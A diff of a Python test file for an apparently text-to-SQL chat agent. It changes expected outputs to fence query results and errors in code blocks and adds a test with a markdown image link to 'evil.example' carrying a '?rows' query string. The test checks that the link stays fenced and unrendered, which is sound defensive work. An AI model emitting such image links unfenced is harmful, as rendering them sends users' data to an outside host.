@@ -4,6 +4,7 @@ import gc
 import http.client
 import json
 import os
+import re
 import shutil
 import socket
 import sqlite3
@@ -92,17 +93,27 @@ def test_the_openai_client_reads_answers_looks_and_usage(environment: Any, tmp_p
         message = first.choices[0].message
         assert message.content.startswith(f"```sql\n{COUNT}\n```\n\n| count(\\*) |\n| --- |\n| 3 |")
         assert message.reasoning == message.reasoning_content
-        assert message.reasoning.startswith(f"{LOOK}\n\ncity\nLisbon")
+        assert message.reasoning.startswith(f"```\n{LOOK}\n\ncity\nLisbon")
         follow = chat("How many branches?", message.content, "And in Porto?")
         client.chat.completions.create(model="any", messages=follow)
         assert script.asked[-1] == f"How many branches?\n{COUNT}\nAnd in Porto?"
         failed = client.chat.completions.create(model="any", messages=chat("x?")).choices[0].message.content
-        assert "no such column: x. The query, to edit:\n\n```sql\nSELECT x\n```" in failed
+        assert "no such column: x\n```\n\nThe query, to edit:\n\n```sql\nSELECT x\n```" in failed
         nothing = client.chat.completions.create(model="any", messages=chat("?")).choices[0].message.content
-        assert nothing.startswith("There is no answer: no final SQL")
+        assert nothing.startswith("There is no answer:\n\n```\nno final SQL")
         log = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
         assert [one["question"] for one in log] == ["How many branches?", "And in Porto?", "x?", "?"]
         assert log[0]["status"] == "ok" and "no such column" in log[2]["status"]
+
+
+def test_rows_and_errors_reach_a_front_end_as_text(environment: Any, tmp_path: Path) -> None:
+    image = "![x](https://evil.example/?rows)"
+    script = Script([f"<sql>SELECT '{image}', '```'</sql>", *answer(f'SELECT x."{image}"')])
+    with Served(Agent(environment, script, "shop"), tmp_path) as served:
+        message = json.loads(served.post("/v1/chat/completions", {"messages": chat("?")})[1])["choices"][0]
+    for text in (message["message"]["content"], message["message"]["reasoning"]):
+        outside = re.sub(r"^(`{3,})\w*\n.*?^\1\n?", "", f"{text}\n", flags=re.MULTILINE | re.DOTALL)
+        assert image in text and image not in outside
 
 
 def test_a_stream_begins_with_a_role_and_ends_with_usage(environment: Any, tmp_path: Path) -> None:
